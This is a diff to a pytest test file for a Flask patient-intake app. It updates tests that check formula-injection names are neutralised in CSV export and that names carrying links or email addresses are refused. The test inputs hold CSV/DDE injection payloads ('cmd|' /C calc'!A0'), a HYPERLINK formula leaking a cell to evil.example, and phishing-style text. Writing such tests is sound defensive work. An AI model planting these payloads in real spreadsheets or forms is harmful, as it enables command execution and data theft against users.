@@ -97,12 +97,13 @@ def test_a_markup_name_is_escaped_in_the_delivered_email_html(
 @pytest.mark.parametrize(
     "name",
     [
-        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        # No "@" or "://" (a name cannot hold an address: ``name_only``); a cell starting
+        # with "@" is neutralised all the same (tests/test_export.py).
+        '=HYPERLINK("evil.example/?x="&A1,"Click")',
         "+49 cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0",
-        "@SUM(1+1)*cmd|' /C calc'!A0",
     ],
-    ids=["equals", "plus", "minus", "at"],
+    ids=["equals", "plus", "minus"],
 )
 def test_a_formula_name_is_neutralised_in_the_csv_export(
     app: Flask, client: FlaskClient, coordinator: FlaskClient, name: str
@@ -186,6 +187,20 @@ REFUSED_ANSWERS = {
     "right-to-left-override-name": (
         {"full_name": "\u202eEvil\u202c \u05d3\u05d5\u05d3"},
         "Please remove the line breaks or invisible characters.",
+    ),
+    # The emails greet the patient by the name typed, at the address typed (anyone's):
+    # a name cannot carry a link or an address into them.
+    "link-in-name": (
+        {"full_name": "Erika. Your scan needs review: sign in at https://evil.example/sc"},
+        "Please enter a name only, without a web or email address.",
+    ),
+    "web-address-in-name": (
+        {"full_name": "Erika see WWW.evil.example"},
+        "Please enter a name only, without a web or email address.",
+    ),
+    "email-address-in-guardian-name": (
+        {"guardian_name": "Max write to max@evil.example"},
+        "Please enter a name only, without a web or email address.",
     ),
     "pain-score-out-of-scale": ({"back_pain_now": "11"}, "Please choose a number from 0 to 10."),
     "contact-method-not-offered": (
